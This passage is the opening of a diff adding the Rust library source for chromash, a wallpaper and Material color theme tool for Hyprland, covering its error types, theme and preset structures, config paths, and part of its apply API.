@@ -0,0 +1,3136 @@
+//! Chromash sets wallpapers and generates Material color themes from them for Hyprland
+//! and other desktops, rendering the palette into application config templates.
+//!
+//! [`ChromashApi`] is the entry point: it loads the user's config and applies wallpapers,
+//! colors and presets the way the `chromash` command does.
+//!
+//! ```no_run
+//! use chromash::{ChromashApi, ColorMode, ThemeOptions};
+//!
+//! let mut api = ChromashApi::new()?;
+//! let options = ThemeOptions { mode: Some(ColorMode::Dark), ..ThemeOptions::default() };
+//! api.apply_wallpaper(Some("~/Pictures/Wallpapers/forest.png"), true, options)?;
+//! println!("Current theme: {:?}", api.load_current_theme()?);
+//! # Ok::<(), chromash::ChromashError>(())
+//! ```
+//!
+//! [`theme::Theme`] builds the same themes step by step and reports what applying did.
+//!
+//! [`cli::execute`] runs a chromash command line against an API, as aliases and the
+//! daemon's scheduled actions do.
+
+use std::collections::{BTreeMap, HashMap};
+use std::env;
+use std::fs;
+use std::io::Write;
+use std::path::{Component, Path, PathBuf};
+use std::process::Command;
+use std::sync::Arc;
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+use serde::{Deserialize, Serialize};
+use image::{imageops::FilterType, GenericImageView, ImageReader};
+
+mod archive;
+mod backend;
+mod battery;
+pub mod cli;
+pub mod command;
+mod completions;
+pub mod config;
+mod cron;
+mod daemon;
+mod dbus;
+mod desktop;
+pub mod doctor;
+mod download;
+mod fuzzy;
+mod generator;
+mod graphics;
+mod gtk;
+mod history;
+mod hub;
+mod hyprland;
+mod hyprpaper;
+pub mod init;
+mod instance;
+mod lockscreen;
+pub mod logging;
+mod menu;
+mod mqtt;
+mod nightlight;
+#[cfg(feature = "async")]
+pub mod nonblocking;
+pub mod palette;
+pub mod paths;
+mod picker;
+mod profile;
+mod progress;
+mod queue;
+mod rpc;
+pub mod sandbox;
+mod screenshot;
+mod season;
+mod share;
+mod state;
+mod templates;
+pub mod theme;
+mod thumbnail;
+mod tui;
+mod watch;
+mod waybar;
+
+use config::{ChromashConfig, SeasonConfig};
+use generator::Seed;
+use palette::Palette;
+use share::SharedTheme;
+
+/// Everything that can go wrong in chromash.
+#[derive(Debug)]
+pub enum ChromashError {
+    Io(std::io::Error),
+    Json(serde_json::Error),
+    Toml(toml::de::Error),
+    Process(String),
+    /// An external program exited unsuccessfully or timed out.
+    Command(command::Failure),
+    NotFound(String),
+    /// Refused because the theme is locked with `chromash lock`.
+    Locked,
+    /// Another chromash process is applying and `[instance] wait` is off or timed out.
+    Busy,
+    /// The command line couldn't be parsed; the message includes usage.
+    Usage(String),
+    General(String),
+}
+
+impl From<std::io::Error> for ChromashError {
+    fn from(e: std::io::Error) -> Self { Self::Io(e) }
+}
+impl From<serde_json::Error> for ChromashError {
+    fn from(e: serde_json::Error) -> Self { Self::Json(e) }
+}
+impl From<toml::de::Error> for ChromashError {
+    fn from(e: toml::de::Error) -> Self { Self::Toml(e) }
+}
+impl std::fmt::Display for ChromashError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Io(e) => write!(f, "IO error: {}", e),
+            Self::Json(e) => write!(f, "JSON error: {}", e),
+            Self::Toml(e) => write!(f, "Config error: {}", e),
+            Self::Process(e) => write!(f, "Process failed: {}", e),
+            Self::Command(e) => write!(f, "Command failed: {}", e),
+            Self::NotFound(e) => write!(f, "Not found: {}", e),
+            Self::Locked => write!(f, "Theme is locked; run `chromash unlock` to allow changes"),
+            Self::Busy => write!(f, "Another chromash is applying a theme; try again when it finishes"),
+            Self::Usage(e) | Self::General(e) => write!(f, "{}", e),
+        }
+    }
+}
+impl std::error::Error for ChromashError {}
+impl ChromashError {
+    /// A stable name for the kind of error, reported in JSON output.
+    pub fn code(&self) -> &'static str {
+        match self {
+            Self::Io(_) => "io",
+            Self::Json(_) => "json",
+            Self::Toml(_) => "config",
+            Self::Process(_) => "process",
+            Self::Command(_) => "command",
+            Self::NotFound(_) => "not_found",
+            Self::Locked => "locked",
+            Self::Busy => "busy",
+            Self::Usage(_) => "usage",
+            Self::General(_) => "general",
+        }
+    }
+    
+    /// The status `chromash` exits with, stable so scripts and systemd units can branch on it.
+    pub fn exit_code(&self) -> i32 {
+        match self {
+            Self::General(_) => 1,
+            Self::NotFound(_) => 2,
+            Self::Process(_) | Self::Command(_) => 3,
+            Self::Io(_) => 4,
+            Self::Usage(_) => 5,
+            Self::Json(_) | Self::Toml(_) => 6,
+            Self::Locked => 7,
+            Self::Busy => 8,
+        }
+    }
+}
+pub type Result<T> = std::result::Result<T, ChromashError>;
+
+/// Whether the theme is light or dark.
+#[derive(Debug, Copy, Clone, Serialize, Deserialize)]
+pub enum ColorMode { Light, Dark }
+
+/// Material color scheme variant, i.e. how palettes are derived from the seed color.
+#[derive(Debug, Copy, Clone, Serialize, Deserialize)]
+pub enum SchemeType {
+    Content,
+    Expressive,
+    Fidelity,
+    FruitSalad,
+    Monochrome,
+    Neutral,
+    Rainbow,
+    TonalSpot,
+}
+
+/// A saved theme, as stored in `metadata.json` of its preset directory.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PresetMetadata {
+    /// Schema version; see `state::PRESET_VERSION`.
+    #[serde(default)]
+    pub version: u32,
+    pub name: String,
+    pub created: u64,
+    pub modified: u64,
+    pub source: Option<String>,
+    #[serde(default, with = "paths::optional")]
+    pub wallpaper: Option<PathBuf>,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    #[serde(default)]
+    pub pinned: bool,
+    /// URL the preset was downloaded from.
+    #[serde(default)]
+    pub origin: Option<String>,
+    /// Set for downloaded presets until the user confirms the first apply.
+    #[serde(default)]
+    pub untrusted: bool,
+    #[serde(default)]
+    pub mode: Option<ColorMode>,
+    #[serde(default)]
+    pub scheme: Option<SchemeType>,
+    #[serde(default)]
+    pub contrast: Option<f64>,
+    #[serde(default)]
+    pub warmth: Option<f64>,
+    #[serde(default)]
+    pub hue_shift: Option<f64>,
+    /// Anonymous preset recorded automatically on apply.
+    #[serde(default)]
+    pub snapshot: bool,
+    /// Wallpaper file kept inside the preset directory, relative to it.
+    #[serde(default)]
+    pub bundled_wallpaper: Option<String>,
+    /// Free-text notes on what the preset is for.
+    #[serde(default)]
+    pub description: Option<String>,
+    /// Read-only preset shipped in a system data directory.
+    #[serde(skip)]
+    pub system: bool,
+}
+
+/// The applied theme, as recorded in `current_theme.json` and the history.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct CurrentTheme {
+    /// Schema version; see `state::THEME_VERSION`.
+    #[serde(default)]
+    pub version: u32,
+    pub source: String,
+    pub timestamp: u64,
+    pub preset_name: Option<String>,
+    /// Seed color of the theme as `#rrggbb`.
+    #[serde(default)]
+    pub accent: Option<String>,
+    #[serde(default)]
+    pub mode: Option<ColorMode>,
+    #[serde(default)]
+    pub scheme: Option<SchemeType>,
+    #[serde(default)]
+    pub contrast: Option<f64>,
+    #[serde(default)]
+    pub warmth: Option<f64>,
+    #[serde(default)]
+    pub hue_shift: Option<f64>,
+}
+
+/// How to apply a theme; unset fields fall back to the config, then to what the seed
+/// suggests.
+#[derive(Debug, Clone, Default)]
+pub struct ThemeOptions {
+    pub mode: Option<ColorMode>,
+    pub scheme: Option<SchemeType>,
+    pub save_preset: bool,
+    pub preset_name: Option<String>,
+    /// Contrast adjustment passed to matugen, from -1.0 to 1.0.
+    pub contrast: Option<f64>,
+    /// Extract the seed color from a small, sparsely sampled thumbnail.
+    pub fast: bool,
+    /// Shifts the seed toward orange (positive) or blue (negative), from -50 to 50.
+    pub warmth: Option<f64>,
+    /// Rotates the seed's hue, in degrees.
+    pub hue_shift: Option<f64>,
+}
+
+impl ThemeOptions {
+    /// `seed` after `warmth` and `hue_shift`, or `None` if neither is set. Wallpaper themes
+    /// with an adjusted seed are generated from it instead of the image.
+    fn adjusted_seed(&self, seed: [u8; 3]) -> Option<[u8; 3]> {
+        if self.warmth.is_none() && self.hue_shift.is_none() {
+            return None;
+        }
+        Some(adjust_seed(seed, self.warmth.unwrap_or(0.0), self.hue_shift.unwrap_or(0.0)))
+    }
+}
+
+impl CurrentTheme {
+    /// The wallpaper the theme was generated from, if any.
+    pub fn wallpaper(&self) -> Option<PathBuf> {
+        self.source.strip_prefix("wallpaper_").map(paths::decode)
+    }
+
+    /// Options that re-apply this theme the way it was applied.
+    pub fn options(&self) -> ThemeOptions {
+        ThemeOptions {
+            mode: self.mode,
+            scheme: self.scheme,
+            contrast: self.contrast,
+            warmth: self.warmth,
+            hue_shift: self.hue_shift,
+            preset_name: self.preset_name.clone(),
+            ..ThemeOptions::default()
+        }
+    }
+}
+
+impl PresetMetadata {
+    /// The wallpaper this preset was made from, whether recorded as source or separately.
+    pub fn wallpaper_path(&self) -> Option<PathBuf> {
+        self.source.as_deref()
+            .and_then(|s| s.strip_prefix("wallpaper_"))
+            .map(paths::decode)
+            .or_else(|| self.wallpaper.clone())
+    }
+
+    /// `color`, `wallpaper` or `-` depending on what the preset was generated from.
+    pub fn source_kind(&self) -> &'static str {
+        match self.source.as_deref() {
+            Some(s) if s.starts_with("color_") => "color",
+            Some(s) if s.starts_with("wallpaper_") => "wallpaper",
+            _ if self.wallpaper.is_some() => "wallpaper",
+            _ => "-",
+        }
+    }
+    
+    /// Location of the bundled wallpaper copy, if the preset has one.
+    pub fn bundled_path(&self, preset_dir: &Path) -> Option<PathBuf> {
+        self.bundled_wallpaper.as_deref().and_then(bundled_file).map(|file| preset_dir.join(file))
+    }
+
+    /// The wallpaper to use for this preset, preferring the bundled copy over the
+    /// original file.
+    pub fn resolve_wallpaper(&self, preset_dir: &Path) -> Option<PathBuf> {
+        self.bundled_path(preset_dir)
+            .into_iter()
+            .chain(self.wallpaper_path())
+            .find(|p| p.is_file())
+    }
+}
+
+impl ColorMode {
+    fn as_str(&self) -> &'static str {
+        match self { Self::Light => "light", Self::Dark => "dark" }
+    }
+    fn from_brightness(r: u8, g: u8, b: u8) -> Self {
+        if (r as u32 * 299 + g as u32 * 587 + b as u32 * 114) / 1000 > 128 { 
+            Self::Light 
+        } else { 
+            Self::Dark 
+        }
+    }
+    fn from_str(s: &str) -> Option<Self> {
+        match s.to_lowercase().as_str() {
+            "light" => Some(Self::Light),
+            "dark" => Some(Self::Dark),
+            _ => None,
+        }
+    }
+}
+
+impl SchemeType {
+    fn as_str(&self) -> &'static str {
+        match self {
+            Self::Content => "scheme-content",
+            Self::Expressive => "scheme-expressive",
+            Self::Fidelity => "scheme-fidelity",
+            Self::FruitSalad => "scheme-fruit-salad",
+            Self::Monochrome => "scheme-monochrome",
+            Self::Neutral => "scheme-neutral",
+            Self::Rainbow => "scheme-rainbow",
+            Self::TonalSpot => "scheme-tonal-spot",
+        }
+    }
+    fn from_str(s: &str) -> Option<Self> {
+        match s.to_lowercase().replace("-", "").replace("_", "").as_str() {
+            "content" | "schemecontent" => Some(Self::Content),
+            "expressive" | "schemeexpressive" => Some(Self::Expressive),
+            "fidelity" | "schemefidelity" => Some(Self::Fidelity),
+            "fruitsalad" | "schemefruitsalad" => Some(Self::FruitSalad),
+            "monochrome" | "schememonochrome" => Some(Self::Monochrome),
+            "neutral" | "schemeneutral" => Some(Self::Neutral),
+            "rainbow" | "schemerainbow" => Some(Self::Rainbow),
+            "tonalspot" | "schemetonalspot" => Some(Self::TonalSpot),
+            _ => None,
+        }
+    }
+    fn from_chroma(r: u8, g: u8, b: u8) -> Self {
+        let chroma = r.max(g).max(b) - r.min(g).min(b);
+        if chroma < 30 {
+            Self::Neutral
+        } else if chroma < 60 {
+            Self::TonalSpot
+        } else {
+            Self::Expressive
+        }
+    }
+}
+
+/// Where chromash keeps its config, state and the files it writes.
+pub struct Config;
+
+impl Config {
+    fn home() -> PathBuf {
+        env::var("HOME").map(PathBuf::from).unwrap_or_else(|_| PathBuf::from("/"))
+    }
+    /// `$CHROMASH_CONFIG_DIR` (also set by `--config`) or `~/.config/chromash`.
+    fn config_dir() -> PathBuf {
+        env::var_os("CHROMASH_CONFIG_DIR")
+            .filter(|dir| !dir.is_empty())
+            .map(PathBuf::from)
+            .unwrap_or_else(|| Self::home().join(".config/chromash"))
+    }
+    fn wallpaper_dir() -> PathBuf {
+        paths::var("XDG_PICTURES_DIR")
+            .map(|p| PathBuf::from(p).join("Wallpapers"))
+            .unwrap_or_else(|| Self::home().join("Pictures/Wallpapers"))
+    }
+    /// Used when the config sets no `hyprpaper_dir`; see `ChromashApi::hyprpaper_dir`.
+    fn default_hyprpaper_dir() -> PathBuf {
+        Self::home().join(".config/hypr/hyprpaper")
+    }
+    fn hyprpaper_config() -> PathBuf {
+        Self::home().join(".config/hypr/hyprpaper.conf")
+    }
+    fn monitor_variables_file() -> PathBuf {
+        Self::home().join(".config/hypr/chromash-monitors.conf")
+    }
+    /// Where launchers look for the user's `.desktop` files.
+    fn applications_dir() -> PathBuf {
+        env::var_os("XDG_DATA_HOME")
+            .filter(|dir| !dir.is_empty())
+            .map(PathBuf::from)
+            .unwrap_or_else(|| Self::home().join(".local/share"))
+            .join("applications")
+    }
+    fn gtk4_css_file() -> PathBuf {
+        Self::home().join(".config/gtk-4.0/gtk.css")
+    }
+    /// Used when the config sets no `presets_dir`; see `ChromashApi::presets_dir`.
+    fn default_presets_dir() -> PathBuf {
+        Self::config_dir().join("presets")
+    }
+    /// Read-only preset directories from `$XDG_DATA_DIRS`, highest priority first.
+    fn system_presets_dirs() -> Vec<PathBuf> {
+        let data_dirs = env::var("XDG_DATA_DIRS").ok()
+            .filter(|dirs| !dirs.is_empty())
+            .unwrap_or_else(|| "/usr/local/share:/usr/share".to_string());
+        data_dirs.split(':')
+            .filter(|dir| !dir.is_empty())
+            .map(|dir| PathBuf::from(dir).join("chromash/presets"))
+            .collect()
+    }
+    fn current_theme_file() -> PathBuf {
+        Self::config_dir().join("current_theme.json")
+    }
+    fn config_file() -> PathBuf {
+        Self::config_dir().join("config.toml")
+    }
+    fn palette_file() -> PathBuf {
+        Self::config_dir().join("palette.json")
+    }
+    fn history_file() -> PathBuf {
+        Self::config_dir().join("history.jsonl")
+    }
+    fn state_dir() -> PathBuf {
+        // An overridden root keeps its state alongside the config
+        if env::var_os("CHROMASH_CONFIG_DIR").is_some_and(|dir| !dir.is_empty()) {
+            return Self::config_dir().join("state");
+        }
+        env::var_os("XDG_STATE_HOME")
+            .filter(|dir| !dir.is_empty())
+            .map(PathBuf::from)
+            .unwrap_or_else(|| Self::home().join(".local/state"))
+            .join("chromash")
+    }
+    fn cache_dir() -> PathBuf {
+        if env::var_os("CHROMASH_CONFIG_DIR").is_some_and(|dir| !dir.is_empty()) {
+            return Self::config_dir().join("cache");
+        }
+        env::var_os("XDG_CACHE_HOME")
+            .filter(|dir| !dir.is_empty())
+            .map(PathBuf::from)
+            .unwrap_or_else(|| Self::home().join(".cache"))
+            .join("chromash")
+    }
+    /// Palettes matugen generated before, named after a hash of what they were generated from.
+    fn palette_cache_dir() -> PathBuf {
+        Self::cache_dir().join("palettes")
+    }
+    /// The daemon's JSON-RPC socket, in `$XDG_RUNTIME_DIR` unless the root is overridden.
+    fn socket_file() -> PathBuf {
+        match env::var_os("XDG_RUNTIME_DIR").filter(|dir| !dir.is_empty()) {
+            Some(dir) if env::var_os("CHROMASH_CONFIG_DIR").is_none_or(|dir| dir.is_empty()) => PathBuf::from(dir).join("chromash.sock"),
+            _ => Self::state_dir().join("chromash.sock"),
+        }
+    }
+    /// libadwaita named colors from the current palette, imported by GTK 4's `gtk.css`.
+    fn gtk_colors_file() -> PathBuf {
+        Self::state_dir().join("gtk.css")
+    }
+    /// Blurred and dimmed wallpaper for hyprlock or swaylock.
+    fn lockscreen_file() -> PathBuf {
+        Self::state_dir().join("lockscreen.png")
+    }
+    /// Held while applying so only one chromash changes the theme at a time.
+    fn instance_lock_file() -> PathBuf {
+        Self::state_dir().join("apply.lock")
+    }
+    pub fn log_file() -> PathBuf {
+        Self::state_dir().join("chromash.log")
+    }
+    fn lock_file() -> PathBuf {
+        Self::config_dir().join("locked")
+    }
+    fn redo_file() -> PathBuf {
+        Self::config_dir().join("redo.json")
+    }
+    /// Name of the profile `profile switch` made active.
+    fn profile_file() -> PathBuf {
+        Self::config_dir().join("profile")
+    }
+    fn season_file() -> PathBuf {
+        Self::config_dir().join("season")
+    }
+    /// Wallpapers the daemon drew for `wallpaper --random` ahead of time.
+    fn queue_file() -> PathBuf {
+        Self::state_dir().join("queue")
+    }
+    /// The day of the last daily shuffle and the wallpaper it picked.
+    fn shuffle_file() -> PathBuf {
+        Self::state_dir().join("shuffle")
+    }
+    fn template_dir() -> PathBuf {
+        Self::home().join(".config/matugen")
+    }
+}
+
+/// Applies and records themes with the settings of the user's config file.
+pub struct ChromashApi {
+    config: ChromashConfig,
+    /// Print what applying would do instead of doing it.
+    dry_run: bool,
+    /// Print why each step of applying a theme went the way it did.
+    explain: bool,
+    /// Apply with as little work as possible, see `minimal()`.
+    minimal: bool,
+    /// Delete files outright instead of moving them to the trash.
+    purge: bool,
+    /// What palettes are generated with; without its program wallpapers can still be set,
+    /// but no colors generated.
+    generator: Box<dyn generator::Generator>,
+    /// Program that draws the wallpaper.
+    backend: backend::Backend,
+    /// Runs every external program, from the generator to template hooks.
+    runner: Arc<dyn command::CommandRunner>,
+}
+
+impl ChromashApi {
+    pub fn new() -> Result<Self> {
+        let config = ChromashConfig::load()?;
+        let backend = backend::Backend::select(config.backend.as_deref())?;
+        let generator = generator::select(config.generator.as_deref())?;
+        let runner = Arc::new(command::System);
+        Ok(Self { config, dry_run: false, explain: false, minimal: false, purge: false, generator, backend, runner })
+    }
+
+    pub fn config(&self) -> &ChromashConfig {
+        &self.config
+    }
+    
+    /// Reads the config again, e.g. after the active profile changed.
+    pub fn reload_config(&mut self) -> Result<()> {
+        let config = ChromashConfig::load()?;
+        self.backend = backend::Backend::select(config.backend.as_deref())?;
+        self.generator = generator::select(config.generator.as_deref())?;
+        self.config = config;
+        Ok(())
+    }
+    
+    /// Activates profile `name` (the base config for `None`) and re-applies the current
+    /// theme under it, so its wallpaper directory, contrast and templates take effect now.
+    pub fn switch_profile(&mut self, name: Option<&str>) -> Result<()> {
+        if let Some(name) = name {
+            if !self.config.profiles.contains_key(name) {
+                let known: Vec<&str> = self.config.profiles.keys().map(String::as_str).collect();
+                return Err(unknown_value("profile", name, &known));
+            }
+        }
+        if self.skip_in_dry_run(|| format!("switch to profile {}", name.unwrap_or("(none)"))) {
+            return Ok(());
+        }
+        profile::set(name)?;
+        self.reload_config()?;
+        let Some(theme) = self.load_current_theme()? else {
+            return Ok(());
+        };
+        let options = ThemeOptions { contrast: self.config.contrast.or(theme.contrast), ..theme.options() };
+        self.apply_source(&theme.source, options)?;
+        Ok(())
+    }
+    
+    /// Wallpaper collection from the config, or the default pictures directory.
+    pub fn wallpaper_dir(&self) -> PathBuf {
+        self.config.wallpaper_dir.as_deref()
+            .map(paths::expand)
+            .unwrap_or_else(Config::wallpaper_dir)
+    }
+    
+    /// Where wallpapers are copied for the backend: `hyprpaper_dir` from the config, or
+    /// `~/.config/hypr/hyprpaper`.
+    pub fn hyprpaper_dir(&self) -> PathBuf {
+        self.config.hyprpaper_dir.as_deref()
+            .map(paths::expand)
+            .unwrap_or_else(Config::default_hyprpaper_dir)
+    }
+    
+    /// Where user presets are saved: `presets_dir` from the config, or the config directory's
+    /// `presets`.
+    pub fn presets_dir(&self) -> PathBuf {
+        self.config.presets_dir.as_deref()
+            .map(paths::expand)
+            .unwrap_or_else(Config::default_presets_dir)
+    }
+    
+    /// First image in the wallpaper directory, if there is one.
+    pub fn first_wallpaper(&self) -> Result<Option<PathBuf>> {
+        first_image_in(&self.wallpaper_dir())
+    }
+    
+    /// Images in the wallpaper directory and its subdirectories (season collections), sorted.
+    pub fn list_wallpapers(&self) -> Vec<PathBuf> {
+        let mut found = Vec::new();
+        collect_images(&self.wallpaper_dir(), &mut found);
+        found.sort();
+        found
+    }
+    
+    /// A wallpaper picked at random from the collection, or the next one the daemon
+    /// queued and precached.
+    pub fn random_wallpaper(&self) -> Result<PathBuf> {
+        let wallpapers = self.list_wallpapers();
+        if wallpapers.is_empty() {
+            return Err(ChromashError::NotFound(format!("Wallpapers in {}", self.wallpaper_dir().display())));
+        }
+        if !self.dry_run {
+            if let Some(queued) = queue::pop(&wallpapers) {
+                self.explain(|| format!("wallpaper {}: next in the daemon's queue of random picks", queued.display()));
+                return Ok(queued);
+            }
+        }
+        let picked = wallpapers[(random_u64() % wallpapers.len() as u64) as usize].clone();
+        self.explain(|| format!("wallpaper {}: picked at random from {} in {}", picked.display(), wallpapers.len(), self.wallpaper_dir().display()));
+        Ok(picked)
+    }
+    
+    /// Draws random wallpapers into the queue `random_wallpaper` takes from until `count`
+    /// are waiting, avoiding repeats where the collection allows. Returns the queue.
+    pub fn fill_queue(&self, count: usize) -> Result<Vec<PathBuf>> {
+        let wallpapers = self.list_wallpapers();
+        let mut queue = queue::load();
+        let before = queue.clone();
+        queue.retain(|path| wallpapers.contains(path));
+        queue.truncate(count);
+        while queue.len() < count.min(wallpapers.len()) {
+            let unqueued: Vec<&PathBuf> = wallpapers.iter().filter(|path| !queue.contains(path)).collect();
+            let pool = if unqueued.is_empty() { wallpapers.iter().collect() } else { unqueued };
+            queue.push(pool[(random_u64() % pool.len() as u64) as usize].clone());
+        }
+        if queue != before {
+            queue::save(&queue)?;
+        }
+        Ok(queue)
+    }
+    
+    /// Extracts the seed of `wallpaper` and generates its palette with the config's
+    /// defaults into the caches, so applying it later skips both.
+    pub fn precache(&self, wallpaper: &Path) -> Result<()> {
+        let options = self.config.with_defaults(ThemeOptions::default());
+        let candidates = self.cached_seed_candidates(wallpaper, options.fast)?;
+        // Wallust renders its own templates, so it runs on every apply anyway
+        if !self.config.cache.palettes || self.generator.has_own_templates() || !self.generator_installed() {
+            return Ok(());
+        }
+        let [r, g, b] = candidates.first().map_or(FALLBACK_SEED, |(color, _)| *color);
+        let mode = options.mode.unwrap_or_else(|| ColorMode::from_brightness(r, g, b));
+        let scheme = options.scheme.unwrap_or_else(|| SchemeType::from_chroma(r, g, b));
+        let seed = match options.adjusted_seed([r, g, b]) {
+            Some([r, g, b]) => Seed::Color(format!("#{:02x}{:02x}{:02x}", r, g, b)),
+            None => Seed::Image(wallpaper.to_path_buf()),
+        };
+        let palette = self.generate_palette(&seed, mode, scheme, options.contrast)?;
+        // Palettes of templates with their own scheme or contrast are cached along the way
+        self.app_palettes(&palette, Some((&seed, scheme, options.contrast)));
+        Ok(())
+    }
+    
+    /// Where the seed candidates of `image` are cached, if caching is on.
+    fn seed_cache_file(&self, image: &Path, fast: bool) -> Option<PathBuf> {
+        use std::hash::{DefaultHasher, Hash, Hasher};
+        if !self.config.cache.palettes {
+            return None;
+        }
+        let mut hasher = DefaultHasher::new();
+        fs::read(image).ok()?.hash(&mut hasher);
+        fast.hash(&mut hasher);
+        Some(Config::palette_cache_dir().join(format!("{:016x}.seeds.json", hasher.finish())))
+    }
+    
+    /// The best few `seed_candidates` of `image`, from the cache if it was read before.
+    /// A quick sample settles for full-quality candidates cached before.
+    fn cached_seed_candidates(&self, image: &Path, fast: bool) -> Result<Vec<([u8; 3], f64)>> {
+        let cached = self.seed_cache_file(image, fast);
+        let full_quality = if fast { self.seed_cache_file(image, false) } else { None };
+        let hit = cached.iter().chain(&full_quality)
+            .filter_map(|file| fs::read_to_string(file).ok())
+            .find_map(|content| serde_json::from_str(&content).ok());
+        if let Some(candidates) = hit {
+            log::debug!("Using the cached seed of {}", image.display());
+            return Ok(candidates);
+        }
+        let mut candidates = seed_candidates(image, fast)?;
+        candidates.truncate(SEED_CANDIDATES);
+        if let Some(file) = cached {
+            let written = fs::create_dir_all(Config::palette_cache_dir()).map_err(Into::into)
+                .and_then(|_| write_atomic(&file, serde_json::to_string(&candidates)?));
+            if let Err(e) = written {
+                log::warn!("Failed to cache the seed of {}: {}", image.display(), e);
+            }
+        }
+        Ok(candidates)
+    }
+    
+    pub fn set_dry_run(&mut self, dry_run: bool) {
+        self.dry_run = dry_run;
+    }
+    
+    pub fn set_explain(&mut self, explain: bool) {
+        self.explain = explain;
+    }
+    
+    pub fn set_minimal(&mut self, minimal: bool) {
+        self.minimal = minimal;
+    }
+    
+    /// Whether to skip the expensive parts of applying: seeds come from the cache or a
+    /// quick sample, the lock screen, per-monitor accents and snapshots wait for the next
+    /// full apply, and wallpapers change over IPC without restarts or transitions. With
+    /// `--minimal`, or by the config's `minimal` setting.
+    fn minimal(&self) -> bool {
+        self.minimal || match self.config.minimal {
+            config::Minimal::Always => true,
+            config::Minimal::Never => false,
+            config::Minimal::Auto => battery::power_saver(),
+        }
+    }
+    
+    pub fn set_purge(&mut self, purge: bool) {
+        self.purge = purge;
+    }
+    
+    /// Runs external programs with `runner` instead, e.g. a `command::Recorder` in tests.
+    pub fn set_runner(&mut self, runner: impl command::CommandRunner + 'static) {
+        self.runner = Arc::new(runner);
+    }
+    
+    /// What external programs are run with, for work that outlives a call like the
+    /// daemon's listeners.
+    pub fn runner(&self) -> Arc<dyn command::CommandRunner> {
+        Arc::clone(&self.runner)
+    }
+    
+    /// The runner with the generator's time limit.
+    fn generator_runner(&self) -> command::Timed<'_> {
+        command::Timed { runner: self.runner.as_ref(), timeout: Duration::from_secs(self.config.commands.matugen_timeout) }
+    }
+    
+    /// Overrides the configured swww transition for this run.
+    pub fn set_transition(&mut self, overrides: config::SwwwConfig) {
+        self.config.swww = self.config.swww.merge(overrides);
+    }
+    
+    /// Moves a file or directory to the XDG trash so it can be restored, or deletes it
+    /// with `--purge`.
+    fn discard(&self, path: &Path) -> Result<()> {
+        if self.purge {
+            log::debug!("Deleting {}", path.display());
+            if path.is_dir() {
+                fs::remove_dir_all(path)?;
+            } else {
+                fs::remove_file(path)?;
+            }
+            return Ok(());
+        }
+        log::debug!("Moving {} to the trash", path.display());
+        trash::delete(path).map_err(|e| ChromashError::General(format!(
+            "Failed to move {} to the trash: {} (use --purge to delete it instead)", path.display(), e)))
+    }
+    
+    /// In dry-run mode, prints the action instead of performing it and returns true.
+    fn skip_in_dry_run(&self, action: impl FnOnce() -> String) -> bool {
+        if self.dry_run {
+            println!("[dry-run] {}", action());
+        }
+        self.dry_run
+    }
+    
+    /// With `--explain`, prints one step of the decision trail.
+    fn explain(&self, step: impl FnOnce() -> String) {
+        if self.explain {
+            println!("[explain] {}", step());
+        }
+    }
+    
+    /// Explains where `options`' mode and scheme came from: the command line (`requested`),
+    /// the config's defaults, or the heuristics on `seed` when neither set them.
+    fn explain_mode_and_scheme(&self, requested: &ThemeOptions, options: &ThemeOptions, seed: [u8; 3], mode: ColorMode, scheme: SchemeType) {
+        if !self.explain {
+            return;
+        }
+        let [r, g, b] = seed;
+        let brightness = (r as u32 * 299 + g as u32 * 587 + b as u32 * 114) / 1000;
+        let chroma = r.max(g).max(b) - r.min(g).min(b);
+        let mode_reason = if requested.mode.is_some() {
+            "requested".to_string()
+        } else if options.mode.is_some() {
+            "mode in config.toml".to_string()
+        } else {
+            format!("seed brightness {} is {} 128", brightness, if brightness > 128 { "above" } else { "at most" })
+        };
+        let scheme_reason = if requested.scheme.is_some() {
+            "requested".to_string()
+        } else if options.scheme.is_some() {
+            "scheme in config.toml".to_string()
+        } else {
+            format!("seed chroma {}; below 30 is neutral, below 60 tonal spot, else expressive", chroma)
+        };
+        self.explain(|| format!("mode {}: {}", mode.as_str(), mode_reason));
+        self.explain(|| format!("scheme {}: {}", scheme.as_str(), scheme_reason));
+        if let Some(contrast) = options.contrast {
+            let origin = if requested.contrast.is_some() { "requested" } else { "contrast in config.toml" };
+            self.explain(|| format!("contrast {}: {}", contrast, origin));
+        }
+    }
+    
+    /// Records the applied theme; `options` should hold the resolved mode and scheme.
+    fn save_current_theme(&self, source: &str, options: &ThemeOptions, accent: Option<String>) -> Result<()> {
+        let skipped = self.skip_in_dry_run(|| format!(
+            "record theme {} (mode {}, scheme {}) in {}",
+            source,
+            options.mode.map_or("-", |m| m.as_str()),
+            options.scheme.map_or("-", |s| s.as_str()),
+            Config::current_theme_file().display(),
+        ));
+        if skipped {
+            return Ok(());
+        }
+        let theme = CurrentTheme {
+            version: state::THEME_VERSION,
+            source: source.to_string(),
+            timestamp: SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs(),
+            preset_name: options.preset_name.clone(),
+            accent,
+            mode: options.mode,
+            scheme: options.scheme,
+            contrast: options.contrast,
+            warmth: options.warmth,
+            hue_shift: options.hue_shift,
+        };
+        let previous_mode = self.load_current_theme().ok().flatten().and_then(|previous| previous.mode);
+        let content = serde_json::to_string_pretty(&theme)?;
+        fs::create_dir_all(Config::config_dir())?;
+        log::debug!("Writing {}", Config::current_theme_file().display());
+        write_atomic(&Config::current_theme_file(), content)?;
+        if let Err(e) = history::record(&theme) {
+            log::warn!("Failed to record theme history: {}", e);
+        }
+        if let Some(mqtt_config) = &self.config.mqtt {
+            let runner = command::Timed { runner: self.runner.as_ref(), timeout: Duration::from_secs(self.config.commands.timeout) };
+            if let Err(e) = mqtt::publish_theme(mqtt_config, &theme, &runner) {
+                log::warn!("Failed to publish theme over MQTT: {}", e);
+            }
+        }
+        if let (Some(night_light), Some(mode)) = (&self.config.night_light, theme.mode) {
+            if let Err(e) = nightlight::sync(night_light, mode, previous_mode, &self.config.commands, self.runner.as_ref()) {
+                log::warn!("Failed to adjust the night light: {}", e);
+            }
+        }
+        if self.minimal() {
+            log::debug!("Leaving snapshots, per-monitor accents and the lock screen for the next full apply");
+            return Ok(());
+        }
+        if self.config.snapshots.enabled {
+            if let Err(e) = self.snapshot_theme(&theme, self.config.snapshots.keep) {
+                log::warn!("Failed to save theme snapshot: {}", e);
+            }
+        }
